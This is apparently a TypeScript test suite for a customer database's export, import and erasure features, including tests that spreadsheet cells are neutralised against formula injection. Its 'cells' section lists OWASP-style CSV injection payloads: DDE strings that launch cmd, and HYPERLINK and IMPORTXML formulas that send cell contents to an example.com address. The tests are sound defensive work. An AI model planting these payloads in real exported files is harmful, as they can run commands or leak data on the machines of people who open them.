import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  makeOwnField,
  neutraliseCell,
  type OwnField,
  restoreCell,
  type Subject,
} from '../../src/domain/index.ts';
import type { Engine, ExportRequest } from '../../src/engine/index.ts';
import { openWriter } from '../../src/intake/index.ts';
import type { Store } from '../../src/store/index.ts';
import { customer, dump, freshStore, interaction, order } from '../store/kit.ts';
import { openEngine, quiet, today } from './kit.ts';

const noCounts = {
  rows: 0,
  newCustomers: 0,
  matchedCustomers: 0,
  orders: 0,
  replacedOrders: 0,
  interactions: 0,
  refused: 0,
};

const everybody = { of: 'customers', search: '' } as const;

async function exported(engine: Engine, part: Partial<ExportRequest>): Promise<Blob> {
  const subject = part.subject ?? 'customer';
  const columns = (await engine.exportColumns(part.list ?? everybody, subject)).map(({ id }) => id);
  const request = {
    list: everybody,
    subject,
    columns,
    format: 'csv',
    bom: true,
    title: 'x',
    language: 'en',
  } as const;
  return (await engine.exportList('export', { ...request, ...part }, quiet)).file;
}

async function imported(engine: Engine, content: Blob, name: string): Promise<void> {
  const file = new File([content], name);
  const { guess } = await engine.inspect(file);
  const { refused } = await engine.runImport('import', [{ file, mapping: guess }], quiet);
  expect(refused).toBe(0);
}

/** Everything that a file can carry of a customer. */
async function held(store: Store): Promise<unknown> {
  const ids = (await store.allKnown()).map(({ id }) => id).sort();
  const customers = await store.customers(ids);
  return Promise.all(
    customers.map(async ({ id, name, company, title, address, emails, phones, columns, tags }) => ({
      ...{ id, name, company, title, address, emails, phones, columns },
      tags: tags.map(({ tag }) => tag),
      ...(await store.facts(id)),
    })),
  );
}

const word = fc
  .array(
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      "'",
      '1',
      '2',
      'a',
      'B',
      '张',
      '伟',
      ' ',
      '"',
      ',',
      '|',
      ';',
      '<b>',
      '&',
      '＝',
      '.',
    ),
    {
      minLength: 1,
      maxLength: 8,
    },
  )
  .map(parts => `${parts.join('').trim()}客`.replace(/ +/g, ' '));
const person = fc.record({
  name: word,
  company: word,
  title: word,
  address: word,
  phones: fc.constantFrom<string[]>([], ['13800138000'], ['+12025550143', '13900139000']),
  email: fc.integer({ min: 1, max: 9_999 }),
  joined: fc.option(fc.integer({ min: 10_000, max: 20_000 }), { nil: undefined }),
  income: fc.option(fc.integer({ min: 0, max: 99_999_999 }), { nil: undefined }),
  amounts: fc.array(fc.integer({ min: 1, max: 9_999_999 }), { maxLength: 3 }),
});

describe('export and import', () => {
  it.each(['csv', 'xlsx', 'json'] as const)('give the same base again (%s)', async format => {
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(person, { minLength: 1, maxLength: 6, selector: ({ email }) => email }),
        fc.constantFrom<'en' | 'zh'>('en', 'zh'),
        async (people, language) => {
          const first = openEngine();
          await first.store.commit({
            customers: people.map(({ email, joined, income, amounts: _, ...texts }, i) =>
              customer(`C${i}`, {
                ...texts,
                phones: i === 0 ? texts.phones : [],
                emails: [`p${email}@example.com`],
                columns: {
                  industry: 'C',
                  ...(joined === undefined ? {} : { joined }),
                  ...(income === undefined ? {} : { income }),
                },
                tags: i % 2 === 0 ? [{ tag: '=VIP', author: 'a', at: 1 }] : [],
              }),
            ),
            orders: new Map(
              people.map(({ amounts }, i) => [
                `C${i}`,
                amounts.map((amount, n) =>
                  order(20_000 + n, {
                    number: `O${i}-${n}`,
                    amount,
                    minute: n === 1 ? 615 : -1,
                    product: '+1 手机',
                  }),
                ),
              ]),
            ),
            interactions: new Map(),
            currency: 'CNY',
          });
          const second = openEngine();
          const customers = await exported(first.engine, { format, language, columns: carried });
          await imported(second.engine, customers, `customers.${format}`);
          if (people.some(({ amounts }) => amounts.length > 0)) {
            const orders = await exported(first.engine, { format, language, subject: 'order' });
            await imported(second.engine, orders, `orders.${format}`);
          }
          expect(await held(second.store)).toEqual(await held(first.store));
        },
      ),
      { numRuns: 4, endOnFailure: true },
    );
  });
});

const carried = [
  ...['customerId', 'name', 'company', 'title', 'email', 'phone', 'address'],
  ...['industry', 'joined', 'income', 'labels'],
];

describe('cells', () => {
  // OWASP, CSV Injection; and payloads that circulate for it.
  const payloads = [
    '=1+1',
    '=1+2";=1+2',
    '=1+2\'" ;,=1+2',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com/", A1), "//a")',
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(1)',
    "'=1+1",
    '+86-138',
  ];
  it.each(payloads)('%j begins no formula, and comes back', async text => {
    expect(neutraliseCell(text)).toBe(`'${text}`);
    expect(restoreCell(neutraliseCell(text))).toBe(text);
    const columns = [{ name: text, kind: 'text' }] as const;
    for (const format of ['csv', 'xlsx'] as const) {
      const writer = openWriter(columns, { format, bom: false, title: text });
      writer.add([[text], [[text, 'b']]]);
      const file = writer.end();
      const cells =
        format === 'csv'
          ? Papa.parse<string[]>(await file.text()).data.flat()
          : [...sheetOf(await file.arrayBuffer()).matchAll(/<t [^>]*>([^<]*)/g)].map(([, cell]) => cell!);
      expect(cells.filter(cell => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
      expect(cells.filter(cell => cell.startsWith("'"))).toHaveLength(3);
    }
  });

  it('are cut where they are longer than a cell of a workbook, and it is told how many were', async () => {
    const most = 32_767;
    const columns = [{ name: 'Note', kind: 'text' }] as const;
    const texts = [
      'a'.repeat(most),
      'b'.repeat(most + 1),
      `${'c'.repeat(most - 1)}😀`,
      `=${'d'.repeat(most)}`,
    ];
    const writer = openWriter(columns, { format: 'xlsx', bom: false, title: 'x' });
    writer.add(texts.map(text => [text]));
    writer.add([[['e'.repeat(20_000), 'f'.repeat(20_000)]]]);
    const sheet = sheetOf(await writer.end().arrayBuffer());
    const [, ...cells] = [...sheet.matchAll(/<t [^>]*>([^<]*)/g)].map(([, cell]) => cell!);
    expect(cells.map(({ length }) => length)).toEqual([most, most, most - 1, most, most]);
    expect(cells.map(cell => cell.slice(0, 2))).toEqual(['aa', 'bb', 'cc', "'=", 'ee']);
    expect(writer.shortened).toBe(4);
    for (const format of ['csv', 'json'] as const) {
      const whole = openWriter(columns, { format, bom: false, title: 'x' });
      whole.add(texts.map(text => [text]));
      expect((await whole.end().text()).length).toBeGreaterThan(4 * most);
      expect(whole.shortened).toBe(0);
    }
  });

  it('that are numbers and phone numbers stay as they are', () => {
    for (const text of ['-12.50', '+8613800138000', '+86 138 0013 8000', '-5', '', 'a=1', '张伟', "'a"]) {
      expect(neutraliseCell(text)).toBe(text);
    }
  });

  it('keep the sign of a phone number in Excel, which guesses', async () => {
    expect(neutraliseCell('+8613800138000', true)).toBe("'+8613800138000");
    expect(neutraliseCell('-12.50', true)).toBe('-12.50');
    const { engine, store } = openEngine();
    const phones = [
      ['+12025550143'],
      ['+442079460958'],
      ['13800138000'],
      ['010-65529988-123'],
      ['0755-26001234'],
      ['4008208888'],
      ['+12025550199 x99'],
      ['13900139000', '+12025550111'],
      ['+12025550122', '13700137000'],
    ];
    await store.commit({
      customers: phones.map((list, i) => customer(`C${i}`, { phones: list })),
      orders: new Map(),
      interactions: new Map(),
    });
    for (const format of ['csv', 'xlsx'] as const) {
      const file = await exported(engine, { format, columns: carried });
      const second = openEngine();
      const content = format === 'csv' ? throughExcel(await file.text()) : file;
      await imported(second.engine, new Blob([content]), `list.${format}`);
      expect(await held(second.store)).toEqual(await held(store));
    }
  });

  it('come back whatever they are', () => {
    const text = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '1', 'a', '\t', '＝', ' ') });
    fc.assert(
      fc.property(text, each => {
        expect(restoreCell(neutraliseCell(each))).toBe(each);
      }),
    );
  });
});

/** A CSV as Excel saves it again after it was opened: what looks like a number is one, in the way it is shown. */
function throughExcel(csv: string): string {
  const shown = (cell: string) => {
    if (!/^[+-]?\d+$/.test(cell)) return cell;
    const value = Number(cell);
    return Math.abs(value) < 1e11 ? String(value) : value.toExponential(5).replace('e+', 'E+');
  };
  const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
  return Papa.unparse(rows.map(row => row.map(shown)));
}

function sheetOf(file: ArrayBuffer): string {
  return strFromU8(unzipSync(new Uint8Array(file))['xl/worksheets/sheet1.xml']!);
}

describe('a list', () => {
  it('of a rule has its members, in their order, with metrics, tier, tags and segments', async () => {
    const { engine, store } = openEngine();
    await store.commit({
      customers: ['a', 'b', 'c'].map(id => customer(id)),
      orders: new Map([
        ['a', [order(today - 5, { amount: 12_345 })]],
        ['b', [order(today - 9, { amount: 99_900 })]],
      ]),
      interactions: new Map(),
    });
    const text =
      'metric spent = sum(orders.amount)\ntag Buyer\n  when frequency >= 1\nsegment S\n  when tag `Buyer`\n';
    const list = { of: 'members', text, name: 'Buyer', show: 'matches', search: '' } as const;
    const columns = ['name', '#tags', '#segments', 'spent', 'lastOrder', 'recency'];
    const rows = JSON.parse(await (await exported(engine, { list, columns, format: 'json' })).text());
    expect(rows).toEqual([
      {
        Name: 'Name b',
        'Tags by rules': ['Buyer'],
        'Segments by rules': ['S'],
        'Last order': '2026-09-21',
        Recency: 9,
        spent: 999,
      },
      expect.objectContaining({ Name: 'Name a', spent: 123.45 }),
    ]);
    const csv = await (await exported(engine, { list, columns: ['name', 'spent'], bom: true })).arrayBuffer();
    expect([...new Uint8Array(csv.slice(0, 3))]).toEqual([0xef, 0xbb, 0xbf]);
    const sheet = sheetOf(await (await exported(engine, { list, columns, format: 'xlsx' })).arrayBuffer());
    expect(sheet).toContain(`<v>${today - 9 + 25_569}</v>`);
    expect(sheet).toContain('<v>123.45</v>');
  });

  it('of any length comes in the order in which it is shown, with the orders of each', async () => {
    const { engine, store } = openEngine();
    const ids = Array.from({ length: 8_400 }, (_, i) => `c${i}`);
    const amountOf = (i: number) => ((i * 7_919) % ids.length) + 1;
    await store.commit({
      customers: ids.map(id => customer(id, { emails: [] })),
      orders: new Map(
        ids.map((id, i) => [id, [order(today - 5, { number: `n${id}`, amount: amountOf(i) })]]),
      ),
      interactions: new Map(),
    });
    const list = {
      of: 'members',
      text: 'tag T\n  when frequency >= 1\n',
      name: 'T',
      show: 'matches',
      search: '',
    } as const;
    const byMoney = ids.map((id, i) => ({ id, money: amountOf(i) })).sort((a, b) => b.money - a.money);
    const columns = ['customerId', 'number'];
    const lines = async (subject: Subject) => {
      const text = await (await exported(engine, { list, columns, subject, bom: false })).text();
      return text.trimEnd().split('\r\n').slice(1);
    };
    expect(await lines('customer')).toEqual(byMoney.map(({ id }) => id));
    expect(await lines('order')).toEqual(byMoney.map(({ id }) => `${id},n${id}`));
  });

  it('is of one state of the base', async () => {
    const { store } = openEngine();
    const change = { customers: [customer('a')], orders: new Map(), interactions: new Map() };
    await store.commit(change);
    const reading = store.openReading();
    expect((await reading.customers(['a', 'nobody'])).map(({ id }) => id)).toEqual(['a']);
    await store.commit({ ...change, customers: [customer('b')] });
    await expect(reading.factsOf(['a'])).rejects.toMatchObject({ code: 'baseChanged' });
  });
});

describe('one person', () => {
  it('is exported whole, and after the erasure found nowhere; the log says that it happened, not who', async () => {
    const { store, name } = freshStore();
    const { engine } = openEngine({ store });
    const own: OwnField[] = [];
    const ownField = (of: Subject, label: string, kind: 'text' | 'texts') => {
      own.push(makeOwnField({ of, label, kind }, { own, from: 'people.csv', now: 1 }));
      return own.at(-1)!.id;
    };
    const hobby = ownField('customer', 'Hobby', 'text');
    const pets = ownField('customer', 'Pets', 'texts');
    const voucher = ownField('order', 'Voucher', 'text');
    const mood = ownField('interaction', 'Mood', 'text');
    const zoe = customer('zoe', {
      name: 'Zoe Quill',
      phones: ['+8613800138000'],
      tags: [{ tag: 'secret-label', author: 'a', at: 1 }],
      columns: { city: 'secret-before', [hobby]: 'secret-hobby', [pets]: 'cat; secret-pet' },
    });
    await store.commit({
      customers: [zoe],
      orders: new Map([
        [
          'zoe',
          [
            order(today - 3, {
              number: 'Q-1',
              product: 'secret-product',
              columns: { [voucher]: 'secret-code' },
            }),
          ],
        ],
      ]),
      interactions: new Map([
        ['zoe', [interaction(today - 2, { topic: 'secret-topic', columns: { [mood]: 'secret-mood' } })]],
      ]),
      ownFields: own,
    });
    const record = { fileName: 'people.csv', checksum: 'c', at: 5, summary: noCounts };
    const bCells = { city: '苏州', [hobby]: 'chess', [pets]: 'cat; dog' };
    await store.commit({
      customers: [
        { ...zoe, columns: { ...zoe.columns, city: 'secret-now' }, source: 'people.csv', updatedAt: 5 },
        customer('b', { columns: bCells }),
        customer('zoe-twin', { name: 'Zoë Quill', emails: [], columns: { [hobby]: 'secret-twin' } }),
      ],
      orders: new Map([
        ['b', [order(today - 1, { number: 'B-1', product: 'lens', columns: { [voucher]: 'SPRING' } })]],
        ['zoe', [order(today - 3, { number: 'Q-1', product: 'secret-other' })]],
      ]),
      interactions: new Map([
        ['b', [interaction(today - 1, { topic: 'delivery', columns: { [mood]: 'calm' } })]],
      ]),
      raws: new Map([['zoe', { city: 'secret-raw' }]]),
      record,
      refused: [
        {
          fileName: 'people.csv',
          format: 'text',
          headings: ['ID', 'Name', 'Contact', 'Note'],
          subject: 'customer',
          columns: [
            { of: 'customer', field: 'customerId' },
            { of: 'customer', field: 'name' },
            { of: 'customer', field: 'email' },
            null,
          ],
          currency: 'CNY',
          dateOrders: {},
          total: 6,
          refusals: [
            ['zoe', '', 'secret@', '1'],
            ['', 'Zoe Quill', 'secret', '2'],
            ['', 'Zoë Quill', 'secret', '3'],
            ['', '', 'Zoe <zoe@example.com>; secret', '4'],
            ['', '', '', '138 0013 8000 | +86 13800138000 secret'],
            ['b', 'Name b', 'b@', 'a zo-etrope'],
          ].map((cells, i) => ({ code: 'emailNoAt', args: {}, line: i + 2, column: 'Contact', cells })),
        },
      ],
    });
    await store.declareDistinct('zoe', 'b', 4);
    await store.merge([{ keep: 'zoe', drop: 'zoe-twin', fields: {} }], 6);
    const others = await held(store).then(all => (all as { id: string }[]).filter(({ id }) => id === 'b'));
    await engine.refresh('r', quiet);
    await engine.drawAudit({ size: 2, seed: 1, fields: ['name'], tolerated: 0.1, confidence: 0.9 });
    const zip = unzipSync(new Uint8Array(await (await engine.exportPerson('zoe', 'en'))!.arrayBuffer()));
    expect(Object.keys(zip).sort()).toEqual([
      'customers.csv',
      'interactions.csv',
      'orders.csv',
      'person.json',
    ]);
    expect(JSON.parse(strFromU8(zip['person.json']!))).toMatchObject({ customer: { name: 'Zoe Quill' } });
    expect(strFromU8(zip['orders.csv']!)).toContain('Q-1');
    expect(await engine.exportPerson('nobody', 'en')).toBeNull();

    await engine.backup('b', { passphrase: '', extra: '' }, quiet);
    expect(await engine.removeCustomers('e', ['zoe'], quiet)).toBe(1);
    expect(await store.cardsFor(['e:zoe@example.com', 'p:13800138000', 'i:zoe'])).toEqual([]);
    expect(await store.search('zoe', 5)).toEqual([]);
    expect(await engine.customer('zoe')).toBeNull();
    expect(JSON.stringify(Object.values(await dump(name)))).not.toMatch(
      /zoe|zoë|quill|Q-1|13800138000|secret/i,
    );
    expect(await held(store)).toEqual(others);
    const [importId] = (await store.imports()).map(({ id }) => id);
    expect(
      (await store.refused(importId!)).map(({ total, refusals }) => [total, refusals[0]?.cells]),
    ).toEqual([[1, ['b', 'Name b', 'b@', 'a zo-etrope']]]);
    expect(others).toMatchObject([
      { columns: bCells, orders: [{ product: 'lens', columns: { [voucher]: 'SPRING' } }] },
    ]);
    const log = await engine.backups();
    expect(log.erased).toEqual([{ at: new Date('2026-09-30T10:00:00Z').getTime(), people: 1 }]);
    const { file } = await store.backup({ passphrase: '', extra: '', now: 9 });
    const other = freshStore().store;
    await other.restore(file, '');
    expect(await other.customer('zoe')).toBeNull();
    expect((await other.backups()).erased).toEqual(log.erased);
  });
});
